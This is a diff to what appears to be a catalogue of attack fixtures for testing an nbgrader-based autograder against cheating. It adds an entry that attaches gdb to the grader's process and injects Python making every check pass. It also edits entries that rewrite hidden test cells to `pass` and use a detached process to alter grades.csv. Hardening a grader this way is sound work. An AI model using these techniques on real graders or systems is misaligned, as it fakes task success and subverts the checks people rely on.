@@ -120,12 +120,6 @@ ATTACKS: dict[str, dict] = {}
 
 # 1. Skipping checks ------------------------------------------------------------------------
 
-ATTACKS["skip-input-transformer"] = _blank(
-    after={"setup": [SKIP_GRADED_CELLS]},
-    honest=set(),
-    why="an IPython input transformer rewrites every hidden test cell to `pass`",
-)
-
 ATTACKS["skip-other-ways"] = _blank(
     after={"setup": ['''
 import ast, builtins, sys
@@ -380,8 +374,8 @@ if out.is_file():                               # a directory in its place makes
 out.mkdir(exist_ok=True)
 ''']},
     honest=set(),
-    why="hidden cells skipped, then nbgrader made to fail after saving the kernel's scores, so the "
-        "grader's verdicts are never merged",
+    why="an IPython input transformer rewrites every hidden test cell to `pass`, then nbgrader is made "
+        "to fail after saving the kernel's cell scores, so the grader's verdicts are never merged",
 )
 
 ATTACKS["gradebook-own-rows"] = _blank(
@@ -437,4 +431,30 @@ subprocess.Popen([sys.executable, "-c", DAEMON, str(course), me, MY_NOTEBOOKS], 
     honest=set(),
     why="a detached process outlives the kernel and rewrites the learner's row of grades.csv and "
         "gradebook once grading has finished",
+)
+
+ATTACKS["zzz-debugger-in-grader"] = _blank(  # graded last, and its patch undoes itself after one use
+    after={"setup": ['''
+import os, subprocess
+
+def _parent(pid):
+    return int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
+
+grader = _parent(_parent(os.getpid()))  # kernel <- nbgrader autograde <- the grader's process
+PAYLOAD = """import autograder.session as s, autograder.report as r
+_seal = s.Session.seal
+def _all_pass(self):
+    s.Session.seal = _seal
+    return [r.Result(n, c.points, c.points, '') for n, c in self.checks.items()]
+s.Session.seal = _all_pass""".replace("\\n", "\\\\n")
+try:  # same user as the grader: attach a debugger to it and run Python inside it
+    subprocess.run(["gdb", "-p", str(grader), "-batch", "-nx", "-ex", "call (int)PyGILState_Ensure()",
+                    "-ex", f'call (int)PyRun_SimpleString("{PAYLOAD}")', "-ex", "call (void)PyGILState_Release($1)"],
+                   stdin=subprocess.DEVNULL, capture_output=True, timeout=30)
+except (OSError, subprocess.SubprocessError):
+    pass
+''']},
+    honest=set(),
+    why="gdb attaches to the grader's process (same user, ptrace allowed) and runs Python there "
+        "that makes the grader's own verdicts all passes",
 )
